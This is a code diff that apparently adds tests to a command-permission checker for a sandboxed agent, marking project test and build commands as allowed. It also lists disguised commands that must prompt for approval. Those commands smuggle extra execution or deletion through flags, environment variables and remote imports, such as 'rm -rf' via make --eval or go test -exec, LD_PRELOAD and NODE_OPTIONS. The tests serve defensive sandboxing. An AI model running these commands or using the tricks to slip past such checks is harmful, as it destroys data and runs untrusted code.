@@ -46,6 +46,65 @@ describe('inside the sandbox', () => {
     expect(check(command).decision).toBe(expected);
   });
 
+  it.each([
+    ...[
+      'npx vitest run src/a.test.ts',
+      'npx --no-install tsc --noEmit -p .',
+      'node --test test/a.test.js',
+      'make -j4 check',
+      'npm run test:unit -- --run',
+    ],
+    ...[
+      'go test ./...',
+      'mvn -q clean test',
+      './gradlew :app:test',
+      'sh scripts/check.sh',
+      'CI=1 npm test',
+      'python3 -m pytest -q tests',
+      'make',
+    ],
+    ...['cargo fmt --check', 'deno test -A', 'npm run build:web', 'yarn eslint src', 'cargo clippy --all'],
+  ])("the project's own check runs: %s", (command) => {
+    expect(check(command)).toMatchObject({ decision: 'allow', builtin: 'sandboxed' });
+  });
+
+  it.each([
+    ...["node -e 'x()' --test", "node --test -e 'x()'", 'node --test --import=data:text/javascript,x', 'node evil.js --test'],
+    ...["make --eval 'x:; rm -rf src' x", 'make ship', 'make -f /tmp/evil', 'make test SHELL=./x', 'make -C /tmp/evil', 'make test deploy'],
+    ...[
+      'npm run build:deploy',
+      'npm run test:publish',
+      'npm test --script-shell=./x',
+      'npm test --node-options=--require=./x',
+      'npm --prefix /tmp/x test',
+    ],
+    ...['deno test -A https://host.example/x.ts', 'deno test npm:evil', 'sh /tmp/a/test', 'sh ../a/test.sh', '/tmp/a/test', 'bash -c test'],
+    ...['mvn exec:java -Dx=test', 'mvn evil:test', 'mvn test -Dexec=x', 'gradle test -I /tmp/x.gradle', 'mvn -f x/pom.xml test'],
+    ...[
+      "go test -exec 'rm -rf' ./...",
+      'go test --exec=x ./...',
+      'go vet -vettool=./x',
+      'go build -toolexec ./x',
+      'go test -overlay o.json',
+    ],
+    ...['npx tsc-evil', 'npx eslint-evil', 'npx -p evil tsc', 'npx tsc@evil', 'npx --package=evil tsc', 'uv run --with evil pytest'],
+    ...['NODE_OPTIONS=--require=./x npm test', 'PATH=/tmp:$PATH npm test', 'LD_PRELOAD=./x.so make', 'npx vitest --config=/tmp/x.ts'],
+    ...[
+      'tox -x testenv.commands=x',
+      "pylint --init-hook='x()' a",
+      "rollup -p '{}'",
+      'ctest -S x.cmake',
+      'cargo test --config x',
+      'turbo run build ship',
+    ],
+  ])('what a check is only by its look asks: %s', (command) => {
+    expect(check(command).decision).toBe('ask');
+  });
+
+  it('a variable that may change what runs asks, whatever runs by itself', () => {
+    expect(check('NODE_OPTIONS=--require=./x node a.js', { settings: { autoAllow: true } }).decision).toBe('ask');
+  });
+
   it('tests and builds name what let them run', () => {
     expect(check('npm test')).toMatchObject({ decision: 'allow', builtin: 'sandboxed' });
   });
